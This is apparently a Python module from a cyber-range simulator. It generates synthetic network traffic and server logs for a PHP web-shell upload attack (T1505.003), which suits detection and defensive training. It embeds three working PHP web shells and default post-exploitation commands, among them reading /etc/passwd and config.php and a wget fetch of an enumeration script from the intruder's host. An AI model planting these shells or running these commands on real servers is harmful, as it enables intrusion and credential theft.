"""PHP web shell uploaded through the portal's upload form, MITRE ATT&CK T1505.003 Web Shell.

Imitates an intruder with Firefox on Kali who opens the portal's document upload form
(``/upload.php``), submits a PHP file named like a picture, ``img_<token>.php``, as
``multipart/form-data`` (``Content-Type: application/x-httpd-php``), and then drives it by typing
``/uploads/img_<token>.php?cmd=whoami`` and the like into the address bar: ``id``, ``uname -a``,
``cat /etc/passwd``, ``ls -la``, ``cat ../config.php``, ``ps aux``, ``wget`` of a tool from the
intruder's own ``python3 -m http.server``. The shell is one of

* ``one-liner``: ``<?php system($_REQUEST['cmd']); ?>`` (stdout only, ``text/html``);
* ``simple-backdoor``: Kali's ``/usr/share/webshells/php/simple-backdoor.php`` (output in
  ``<pre>``, after its HTML comment banner);
* ``plain``: ``shell_exec($_GET['cmd'].' 2>&1')`` behind ``header('Content-Type: text/plain')``.

The traffic: the form page and its assets, the upload POST (Wireshark shows the file part under
``mime_multipart``), then one GET per command on the browser's keep-alive connection (a new one
when nginx's 65 s ``keepalive_timeout`` closed it) answered by PHP with the command's output
as the ``www-data`` user of a Debian 12 web server would see it. A ``wget``/``curl`` of a URL
on the intruder's address also makes the web server fetch it (``Wget/1.21.3`` to
``SimpleHTTP/0.6 Python/3.11``), as the real command would.

On the web server (host records): nginx logs every request to the portal (webserver: the form,
its assets, the upload POST, each command's GET), php-fpm's worker writes the uploaded script
into the upload folder (file_event), and every command is PHP's ``/bin/sh -c <command>`` (``2>&1`` appended by
the ``plain`` shell) as ``www-data`` under ``php-fpm: pool www``, then the command's own
processes as the shell's children (process_creation, and auditd's SYSCALL, EXECVE, CWD, PATH,
PROCTITLE); a download is wget's connection to the intruder and the file it saves.
"""
from __future__ import annotations

import re
import time
from typing import Literal

from pydantic import Field, field_validator

from attack_scripts import _http, _linux
from range.core import Strict, derive
from range.traffic import StepContext, TcpSession, Technique, technique

DEFAULT_COMMANDS = ["whoami", "id", "uname -a", "pwd", "ls -la", "cat /etc/passwd", "cat ../config.php", "ps aux",
                    "ss -tlnp", "wget http://{attacker}:8000/lse.sh -O /tmp/lse.sh", "ls -la /tmp"]

SHELLS = {
    "one-liner": b"<?php system($_REQUEST['cmd']); ?>\n",
    "simple-backdoor": (
        b"<!-- Simple PHP backdoor by DK (http://michaeldaw.org) -->\n\n<?php\n\nif(isset($_REQUEST['cmd'])){\n"
        b"        echo \"<pre>\";\n        $cmd = ($_REQUEST['cmd']);\n        system($cmd);\n"
        b'        echo "</pre>";\n        die;\n}\n\n?>\n\n'
        b"Usage: http://target.com/simple-backdoor.php?cmd=cat+/etc/passwd\n\n"
        b"<!--    http://michaeldaw.org   2006    -->\n"
    ),
    "plain": b"<?php header('Content-Type: text/plain; charset=UTF-8'); echo shell_exec($_GET['cmd'] . ' 2>&1'); ?>\n",
}

KEEPALIVE_TIMEOUT = 65.0  # nginx's default
PAGE_LOAD_MAX = 1.0  # the form page and its assets
FORM_FILL = (4.0, 12.0)  # choosing the file and submitting
COMMAND_MAX = 0.7  # one command's request, execution (a download included) and answer
CLOSE_IDLE = (0.5, 3.0)


class Params(Strict):
    commands: list[str] = Field(
        default=DEFAULT_COMMANDS,
        min_length=1,
        max_length=200,
        description="shell commands run through the web shell in order; {attacker} is the intruder's address",
    )
    interval: float = Field(default=8.0, gt=0, le=600, description="mean seconds between commands (each 0.5x to 1.5x)")
    shell: Literal["one-liner", "simple-backdoor", "plain"] = Field(
        default="one-liner", description="the PHP shell uploaded"
    )
    upload_path: str = Field(
        default="/upload.php", max_length=200, pattern=r"^/[A-Za-z0-9._~/-]*\.php$", description="the upload form"
    )
    upload_dir: str = Field(
        default="/uploads/", max_length=200, pattern=r"^/([A-Za-z0-9._~-]+/)*$", description="where uploads are served"
    )

    @field_validator("commands")
    @classmethod
    def _commands(cls, v: list[str]) -> list[str]:
        for i, c in enumerate(v):
            if not c.strip():
                raise ValueError(f"command {i + 1} is empty")
            if len(c) > 500 or any(ord(ch) < 0x20 for ch in c):
                raise ValueError(f"command {i + 1} must be one line of at most 500 characters")
        return v


def _login(ctx: StepContext) -> str:
    first, _, last = ctx.names.username().partition(".")
    return (first[0] + last)[:16]


def _when(ts: float) -> str:
    return time.strftime("%b %d %H:%M", time.gmtime(ts))


class _Box:
    """What the commands see on the portal's web server (Debian 12, nginx, PHP-FPM 8.2, MariaDB)."""

    def __init__(self, ctx: StepContext, shell_name: str, shell_size: int, t_upload: float):
        r = ctx.rng
        self.ctx, self.r = ctx, r
        self.host = ctx.targets[0]
        self.admin = _login(ctx)
        self.admin_name = " ".join(p.capitalize() for p in ctx.names.username().split("."))
        self.db_pass = ctx.names.token(16)
        self.shell_name, self.shell_size, self.t_upload = shell_name, shell_size, t_upload
        self.uploads = [
            (f"scan_{r.randint(10000, 99999)}.{ext}", r.randint(80000, 2400000), t_upload - r.uniform(3600, 30 * 86400))
            for ext in r.choices(["jpg", "pdf", "png"], k=r.randint(3, 7))
        ]
        net = ctx.layout.network_of(self.host.ip)
        self.prefix = ctx.layout.subnets[net].prefixlen if net else 24
        # the pid of ``ps aux`` (its ``sh -c`` the one before), drawn as ever so that the step's
        # later draws stay the same
        self.ps_pid = max(r.sample(range(300, 2000), 12)) + 4001
        self.tmp: list[tuple[str, int, float]] = []  # files the commands saved in /tmp

    def shell_pids(self, commands: list[str]) -> list[int]:
        """The pid of each command's ``sh -c``: the server counts up, other processes taking some
        in between, so that ``ps aux`` shows its own ``sh -c ps aux`` where it ran."""
        gaps = [len(_linux.argvs(c)) + 1 + derive("pid-gap", self.ctx.layout.team, self.ctx.layout.seed,
                                                  self.ctx.step_id, i) % 7 for i, c in enumerate(commands)]
        anchor = next((i for i, c in enumerate(commands) if c.startswith("ps")), 0)
        first = self.ps_pid - 1 - sum(gaps[:anchor])
        return [first + sum(gaps[:i]) for i in range(len(commands))]

    def run(self, cmd: str, now: float, download: tuple[str, int] | None) -> tuple[str, str]:
        """(stdout, stderr) of one command."""
        c = cmd.strip()
        words = c.split()
        head = words[0]
        h = self.host
        if c == "whoami":
            return "www-data\n", ""
        if c == "id":
            return "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n", ""
        if c == "hostname":
            return f"{h.hostname}\n", ""
        if c.startswith("uname"):
            if c == "uname":
                return "Linux\n", ""
            return (
                f"Linux {h.hostname} 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) "
                "x86_64 GNU/Linux\n"
            ), ""
        if c == "pwd":
            return "/var/www/html/uploads\n", ""
        if head == "ls":
            return self.ls(words[1:], now), ""
        if c == "cat /etc/passwd":
            return self.passwd(), ""
        if c in ("cat /etc/os-release", "cat /etc/issue"):
            if c.endswith("issue"):
                return "Debian GNU/Linux 12 \\n \\l\n\n", ""
            return (
                'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\n'
                'VERSION="12 (bookworm)"\nVERSION_CODENAME=bookworm\nID=debian\nHOME_URL="https://www.debian.org/"\n'
                'SUPPORT_URL="https://www.debian.org/support"\nBUG_REPORT_URL="https://bugs.debian.org/"\n'
            ), ""
        if head == "cat" and len(words) > 1 and words[1].endswith("config.php"):
            return (
                "<?php\n// Portal configuration\ndefine('SITE_NAME', '" + _http.site_name(self.ctx.domain) + "');\n"
                "$db_host = 'localhost';\n$db_name = 'portal';\n$db_user = 'portal_app';\n"
                f"$db_pass = '{self.db_pass}';\n\n$db = new mysqli($db_host, $db_user, $db_pass, $db_name);\n"
                "$db->set_charset('utf8mb4');\n"
            ), ""
        if c.startswith("ps"):
            return self.ps(now), ""
        if c.startswith("ss ") or c.startswith("netstat"):
            return (
                "State  Recv-Q Send-Q Local Address:Port  Peer Address:PortProcess\n"
                "LISTEN 0      511          0.0.0.0:80         0.0.0.0:*          \n"
                "LISTEN 0      128          0.0.0.0:22         0.0.0.0:*          \n"
                "LISTEN 0      80         127.0.0.1:3306       0.0.0.0:*          \n"
                "LISTEN 0      511             [::]:80            [::]:*          \n"
                "LISTEN 0      128             [::]:22            [::]:*          \n"
            ), ""
        if c in ("ip a", "ip addr", "ifconfig", "ip -4 a"):
            return (
                "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000\n"
                "    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n    inet 127.0.0.1/8 scope host lo\n"
                "       valid_lft forever preferred_lft forever\n"
                "2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc fq_codel state UP group default qlen 1000\n"
                f"    link/ether {h.mac} brd ff:ff:ff:ff:ff:ff\n"
                f"    inet {h.ip}/{self.prefix} brd + scope global eth0\n       valid_lft forever preferred_lft forever\n"  # noqa: E501
            ), ""
        if head in ("wget", "curl"):
            if download is None:
                return "", f"{head}: unable to resolve host address\n" if head == "wget" else ""
            url, size = download
            if head == "curl":
                return "", ""
            out = re.search(r"-O\s+(\S+)", c)
            dest = out.group(1) if out else url.rsplit("/", 1)[-1]
            if dest.startswith("/tmp/") and "/" not in dest[5:]:
                self.tmp.append((dest[5:], size, now))
            stamp = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(now))
            return "", (
                f"--{stamp}--  {url}\nConnecting to {url.split('/')[2]}... connected.\n"
                f"HTTP request sent, awaiting response... 200 OK\nLength: {size} ({size / 1024:.1f}K) [application/x-sh]\n"  # noqa: E501
                f"Saving to: '{dest}'\n\n     0K {'.' * max(1, size // 1024)}{' ' * max(1, 50 - size // 1024)}100%  "
                f"{self.r.randint(80, 600)}M=0s\n\n"
                f"{stamp} ({self.r.randint(80, 600)} MB/s) - '{dest}' saved [{size}/{size}]\n\n"
            )
        if head in ("chmod", "cd", "mkdir", "rm", "touch", "cp", "mv", "echo", "export", "nohup", "sh", "bash"):
            if head == "echo":
                return " ".join(words[1:]).strip("'\"") + "\n", ""
            return "", ""
        return "", f"sh: 1: {head}: not found\n"

    def ls(self, args: list[str], now: float) -> str:
        long = any(a.startswith("-") and "l" in a for a in args)
        where = next((a for a in args if not a.startswith("-")), ".")
        if where in ("/tmp", "/tmp/"):
            files = list(self.tmp)
            entries = [
                ("drwxrwxrwt", "root", "root", 4096, now - 60, "."),
                ("drwxr-xr-x", "root", "root", 4096, now - 9e6, ".."),
            ]
            entries += [("-rw-r--r--", "www-data", "www-data", s, t, n) for n, s, t in files]
        elif where in ("..", "../", "/var/www/html", "/var/www/html/"):
            names = [
                "api",
                "assets",
                "config.php",
                "contact.php",
                "docs.php",
                "favicon.ico",
                "files",
                "index.php",
                "login.php",
                "news.php",
                "search.php",
                "upload.php",
                "uploads",
            ]
            entries = [
                ("drwxr-xr-x", "www-data", "www-data", 4096, now - 9e5, "."),
                ("drwxr-xr-x", "root", "root", 4096, now - 9e6, ".."),
            ]
            for n in names:
                d = "." not in n
                entries.append(
                    (
                        "drwxr-xr-x" if d else "-rw-r--r--",
                        "www-data",
                        "www-data",
                        4096 if d else 800 + (sum(map(ord, n)) * 37) % 9000,
                        now - 86400 * 20,
                        n,
                    )
                )
        else:
            entries = [
                ("drwxrwxr-x", "www-data", "www-data", 4096, self.t_upload, "."),
                ("drwxr-xr-x", "www-data", "www-data", 4096, now - 9e5, ".."),
            ]
            entries += [("-rw-r--r--", "www-data", "www-data", s, t, n) for n, s, t in self.uploads]
            entries.append(("-rw-r--r--", "www-data", "www-data", self.shell_size, self.t_upload, self.shell_name))
            entries = entries[:2] + sorted(entries[2:], key=lambda e: e[5])
        if not long:
            return "".join(f"{e[5]}\n" for e in entries[2:])
        total = sum(max(4, e[3] // 1024) for e in entries)
        return f"total {total}\n" + "".join(
            f"{m} {2 if m[0] == 'd' else 1} {u:<8} {g:<8} {s:>8} {_when(t)} {n}\n" for m, u, g, s, t, n in entries
        )

    def passwd(self) -> str:
        return (
            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
            "bin:x:2:2:bin:/bin:/usr/sbin/nologin\nsys:x:3:3:sys:/dev:/usr/sbin/nologin\nsync:x:4:65534:sync:/bin:/bin/sync\n"
            "games:x:5:60:games:/usr/games:/usr/sbin/nologin\nman:x:6:12:man:/var/cache/man:/usr/sbin/nologin\n"
            "lp:x:7:7:lp:/var/spool/lpd:/usr/sbin/nologin\nmail:x:8:8:mail:/var/mail:/usr/sbin/nologin\n"
            "news:x:9:9:news:/var/spool/news:/usr/sbin/nologin\nuucp:x:10:10:uucp:/var/spool/uucp:/usr/sbin/nologin\n"
            "proxy:x:13:13:proxy:/bin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
            "backup:x:34:34:backup:/var/backups:/usr/sbin/nologin\nlist:x:38:38:Mailing List Manager:/var/list:/usr/sbin/nologin\n"  # noqa: E501
            "irc:x:39:39:ircd:/run/ircd:/usr/sbin/nologin\n_apt:x:42:65534::/nonexistent:/usr/sbin/nologin\n"
            "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n"
            "systemd-network:x:998:998:systemd Network Management:/:/usr/sbin/nologin\n"
            "messagebus:x:100:107::/nonexistent:/usr/sbin/nologin\nsshd:x:101:65534::/run/sshd:/usr/sbin/nologin\n"
            "mysql:x:102:110:MariaDB Server,,,:/nonexistent:/bin/false\n"
            f"{self.admin}:x:1000:1000:{self.admin_name},,,:/home/{self.admin}:/bin/bash\n"
        )

    def ps(self, now: float) -> str:
        """The daemons under the pids every script gives them (:func:`attack_scripts._linux.daemon_pid`),
        in pid order as ``ps`` lists them."""
        lay, node = self.ctx.layout, self.host.name
        fpm, (fpm0, fpm1) = _linux.pool_pids(lay, node, "php-fpm", _linux.PHP_FPM_WORKERS)
        nginx, (nginx0, nginx1) = _linux.pool_pids(lay, node, "nginx")
        boot = _when(now - 86400 * 12).split(" ", 2)
        start = f"{boot[0]}{boot[1]}"
        rows = [
            ("root", 1, "0.0", "0.1", 167744, 12920, "Ss", "/sbin/init"),
            ("root", _linux.daemon_pid(lay, node, "sshd"), "0.0", "0.1", 15420, 9320, "Ss",
             "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
            ("root", _linux.daemon_pid(lay, node, "cron"), "0.0", "0.0", 6612, 2720, "Ss", "/usr/sbin/cron -f"),
            ("mysql", _linux.daemon_pid(lay, node, "mariadbd"), "0.1", "2.6", 1361732, 104880, "Ssl",
             "/usr/sbin/mariadbd"),
            (
                "root",
                fpm,
                "0.0",
                "0.5",
                203348,
                22488,
                "Ss",
                "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)",
            ),
            ("www-data", fpm0, "0.0", "0.3", 203940, 14196, "S", "php-fpm: pool www"),
            ("www-data", fpm1, "0.0", "0.3", 203940, 14204, "S", "php-fpm: pool www"),
            (
                "root",
                nginx,
                "0.0",
                "0.0",
                10376,
                1432,
                "Ss",
                "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;",
            ),
            ("www-data", nginx0, "0.0", "0.1", 11064, 4356, "S", "nginx: worker process"),
            ("www-data", nginx1, "0.0", "0.1", 11064, 4356, "S", "nginx: worker process"),
            ("www-data", self.ps_pid - 1, "0.0", "0.0", 2580, 904, "S", "sh -c ps aux"),
            ("www-data", self.ps_pid, "0.0", "0.0", 11084, 4488, "R", "ps aux"),
        ]
        out = "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n"
        for u, pid, cpu, mem, vsz, rss, st, cmd in sorted(rows, key=lambda row: row[1]):
            out += f"{u:<10}{pid:>6} {cpu:>4} {mem:>4} {vsz:>6} {rss:>5} ?        {st:<4} {start:<5}   0:0{pid % 10} {cmd}\n"  # noqa: E501
        return out


def _download_url(cmd: str, attacker: str) -> tuple[str, str, int, str] | None:
    """(url, host, port, path) when ``cmd`` fetches a URL on the intruder's own address."""
    m = re.search(r"\b(wget|curl)\b.*?\bhttp://([0-9.]+)(?::(\d+))?(/\S*)?", cmd)
    if not m or m.group(2) != attacker:
        return None
    port = int(m.group(3) or 80)
    path = m.group(4) or "/"
    return f"http://{m.group(2)}{':' + m.group(3) if m.group(3) else ''}{path}", m.group(2), port, path


def _script(r, name: str) -> bytes:
    checks = [
        "uname -a",
        "cat /etc/os-release",
        "id",
        "sudo -n -l 2>/dev/null",
        "find / -perm -4000 -type f 2>/dev/null",
        "ls -la /etc/cron* 2>/dev/null",
        "ss -tlnp 2>/dev/null",
        "cat /etc/passwd | grep sh$",
        "find /var/www -name '*.php' -exec grep -l 'pass' {} \\; 2>/dev/null",
        "getcap -r / 2>/dev/null",
        "ls -la /home/*/ 2>/dev/null",
        "env | grep -i pass",
        "mount",
        "ps aux | grep root",
    ]
    out = f"#!/bin/sh\n# {name} - local enumeration\n\nprint_title() {{ printf '\\n\\033[1;34m[+] %s\\033[0m\\n' \"$1\"; }}\n\n"  # noqa: E501
    i = 0
    while len(out) < r.randint(9000, 16000):
        c = checks[i % len(checks)]
        out += f'print_title "check {i + 1}: {c.split()[0]}"\n{c}\n\n'
        i += 1
    return out.encode()


@technique
class Webshell(Technique):
    name = "webshell"
    attack = "T1505.003"
    tactic = "persistence"
    summary = "a PHP web shell uploaded through the portal's upload form, then used to run commands"
    Params = Params
    min_targets = 1
    max_targets = 1
    target_services = ("http",)

    def duration(self, p: Params) -> float:
        commands = len(p.commands) * (1.5 * p.interval + COMMAND_MAX)
        return (
            max(PAGE_LOAD_MAX + FORM_FILL[1] + 0.5 + commands + CLOSE_IDLE[1], PAGE_LOAD_MAX + KEEPALIVE_TIMEOUT) + 1.0
        )

    def generate(self, ctx: StepContext):
        p: Params = ctx.params
        r = ctx.rng
        target, me = ctx.targets[0], ctx.source
        host = _http.fqdn(target, ctx.domain)
        origin = f"http://{host}"
        b = _http.Browser.kali()
        rtt = _http.lan_rtt(r)
        sid = _http.session_id(r)
        cookie = f"PHPSESSID={sid}"
        shell_name = f"img_{ctx.names.token(6)}.php"
        shell = SHELLS[p.shell]
        assets = _http.assets(ctx.domain)
        out: list[TcpSession] = []

        access = _http.AccessLog(ctx.host, target.name)

        def fresh(t: float) -> _http.Conn:
            return _http.Conn(t, me.ip, target.ip, r.randint(32768, 60999), rtt=rtt, access=access)

        # the form page, then its assets over a second parallel connection as well
        conn = fresh(ctx.t0)
        conn.exchange(
            b.request("GET", host, p.upload_path),
            lambda w: _http.php(
                200,
                w,
                _http.upload_form_html(ctx.domain),
                extra=[("Set-Cookie", f"{cookie}; path=/")] + _http.PHP_SESSION_HEADERS,
            ),
            0.0,
            r.uniform(0.004, 0.02),
        )
        page_at = conn.now
        side = fresh(page_at + r.uniform(0.001, 0.004))
        main_assets = ["/assets/css/main.css?v=3.2.1", "/assets/js/app.js?v=3.2.1", "/favicon.ico"]
        side_assets = ["/assets/js/jquery-3.6.4.min.js", "/assets/img/logo.png"]
        for lane, paths in ((conn, main_assets), (side, side_assets)):
            for i, path in enumerate(paths):
                a = assets[path]
                req = b.request(
                    "GET",
                    host,
                    path,
                    kind=a.kind,
                    referer=None if path == "/favicon.ico" else origin + p.upload_path,
                    cookie=cookie,
                )
                think = 0.0 if i == 0 and lane is side else r.uniform(0.001, 0.006)
                lane.exchange(req, lambda w, a=a: _http.nginx_static(w, a), think, r.uniform(0.0005, 0.002))
        side.idle(KEEPALIVE_TIMEOUT)
        side.close = "server_fin"
        out.append(side.session())

        # the upload
        boundary = _http.firefox_boundary(r)
        body = _http.multipart(
            boundary,
            [
                ("reference", None, None, str(r.randint(100000, 999999)).encode()),
                ("document", shell_name, "application/x-httpd-php", shell),
                ("submit", None, None, b"Upload"),
            ],
        )
        req = b.request(
            "POST",
            host,
            p.upload_path,
            body=body,
            content_type=f"multipart/form-data; boundary={boundary}",
            origin=origin,
            referer=origin + p.upload_path,
            cookie=cookie,
        )
        fill = r.uniform(*FORM_FILL)
        posted = conn.now + fill + _http.send_time(len(req), rtt)  # the upload has arrived
        done = (
            f'<div class="alert alert-success">File <a href="{p.upload_dir}{shell_name}">{shell_name}</a> '
            "has been uploaded. Thank you.</div>\n"
        )
        latency = r.uniform(0.006, 0.03)
        conn.exchange(
            req,
            lambda w: _http.php(
                200, w, _http.upload_form_html(ctx.domain, notice=done), extra=_http.PHP_SESSION_HEADERS
            ),
            fill,
            latency,
        )
        box = _Box(ctx, shell_name, len(shell), conn.now)
        hl = ctx.host
        hr = hl.rng
        uploaded = f"/var/www/html{p.upload_dir}{shell_name}"
        commands = [c.replace("{attacker}", me.ip) for c in p.commands]
        shell_pids = box.shell_pids(commands)
        hl.file(posted + latency * hr.uniform(0.4, 0.9),
                _linux.php_worker(hl, ctx.layout, target.name, "/var/www/html"), uploaded)

        # the commands
        for n, cmd in enumerate(commands):
            gap = p.interval * r.uniform(0.5, 1.5)
            if gap >= KEEPALIVE_TIMEOUT:  # nginx closed the idle connection; the browser opens another
                last = conn.now
                conn.idle(KEEPALIVE_TIMEOUT)
                conn.close = "server_fin"
                out.append(conn.session())
                conn = fresh(last + gap)
                think = 0.0
            else:
                think = gap
            target_uri = f"{p.upload_dir}{shell_name}?cmd={_http.browser_query(cmd)}"
            req = b.request("GET", host, target_uri, cookie=cookie)
            sent = conn.now + think
            latency = r.uniform(0.004, 0.03)
            dl = _download_url(cmd, me.ip)
            download = None
            if dl is not None:
                url, dhost, dport, dpath = dl
                fetch, size = self._fetch(
                    ctx,
                    target.ip,
                    dhost,
                    dport,
                    dpath,
                    sent + r.uniform(0.003, 0.01),
                    "curl" if cmd.lstrip().startswith("curl") else "wget",
                )
                out.append(fetch)
                download = (url, size)
                latency = (_end_of(fetch) - sent) + r.uniform(0.002, 0.01)
            # on the server: PHP's /bin/sh -c, and the command's processes under it
            pids = iter(range(shell_pids[n], shell_pids[n] + 256))  # the shell's, then its commands'
            sh, kids = _linux.sh_c(hl, sent + 0.001 + hr.uniform(0, 0.0008),
                                   _linux.php_worker(hl, ctx.layout, target.name, "/var/www/html/uploads"),
                                   cmd + " 2>&1" if p.shell == "plain" else cmd, pids=pids)
            if dl is not None:
                fetcher = next((k for k in kids if k.image.endswith(("/wget", "/curl"))), sh)
                hl.connection(fetch.t, fetcher, target.ip, fetch.sport, dl[1], dl[2])
                saved = re.search(r"-O\s+(\S+)", cmd)
                if fetcher.image.endswith("/wget"):  # curl without -o writes to its output
                    name = dl[3].rsplit("/", 1)[-1] or "index.html"
                    hl.file(_end_of(fetch), fetcher, saved.group(1) if saved else f"/var/www/html/uploads/{name}")
            stdout, stderr = box.run(cmd, sent, download)
            conn.exchange(req, lambda w, o=stdout, e=stderr: self._shell_answer(p.shell, w, o, e), think, latency)
        conn.idle(r.uniform(*CLOSE_IDLE))
        out.append(conn.session())
        end = max(_end_of(a) for a in out)
        if end > ctx.t0 + self.duration(p):  # pragma: no cover - the bounds above are wrong
            raise RuntimeError(f"webshell overran its duration ({end - ctx.t0:.3f}s > {self.duration(p):.3f}s)")
        yield from sorted(out, key=lambda a: a.t)

    @staticmethod
    def _shell_answer(shell: str, when: float, stdout: str, stderr: str) -> bytes:
        if shell == "plain":
            return _http.php(200, when, stdout + stderr, content_type="text/plain; charset=UTF-8")
        if shell == "simple-backdoor":
            return _http.php(
                200, when, "<!-- Simple PHP backdoor by DK (http://michaeldaw.org) -->\n\n<pre>" + stdout + "</pre>"
            )
        return _http.php(200, when, stdout)

    @staticmethod
    def _fetch(
        ctx: StepContext, client: str, server: str, port: int, path: str, t: float, tool: str
    ) -> tuple[TcpSession, int]:
        """The web server fetching the intruder's file from ``python3 -m http.server``."""
        r = ctx.rng
        body = _script(r, path.rsplit("/", 1)[-1] or "index")
        hostport = server if port == 80 else f"{server}:{port}"
        if tool == "wget":
            req = _http.request(
                "GET",
                path,
                [
                    ("Host", hostport),
                    ("User-Agent", _http.WGET_UA),
                    ("Accept", "*/*"),
                    ("Accept-Encoding", "identity"),
                    ("Connection", "Keep-Alive"),
                ],
            )
        else:
            req = _http.request("GET", path, [("Host", hostport), ("User-Agent", "curl/7.88.1"), ("Accept", "*/*")])
        conn = _http.Conn(t, client, server, r.randint(32768, 60999), dport=port, rtt=_http.lan_rtt(r))
        conn.exchange(
            req,
            lambda w: _http.response(
                200,
                [
                    ("Server", "SimpleHTTP/0.6 Python/3.11.8"),
                    ("Date", _http.http_date(w)),
                    ("Content-type", "application/x-sh"),
                    ("Content-Length", str(len(body))),
                    ("Last-Modified", _http.http_date(w - r.uniform(60, 900))),
                ],
                body,
            ),
            0.0,
            r.uniform(0.0008, 0.003),
        )
        conn.close = "server_fin"  # HTTP/1.0 server: it closes after the answer
        return conn.session(), len(body)


def _end_of(a: TcpSession) -> float:
    t = a.t + a.rtt
    for delay, _side, data in a.messages:
        t += delay + _http.send_time(len(data), a.rtt)
    return t + 0.0005 + (a.rtt if a.close in ("client_fin", "server_fin") else 0.0)
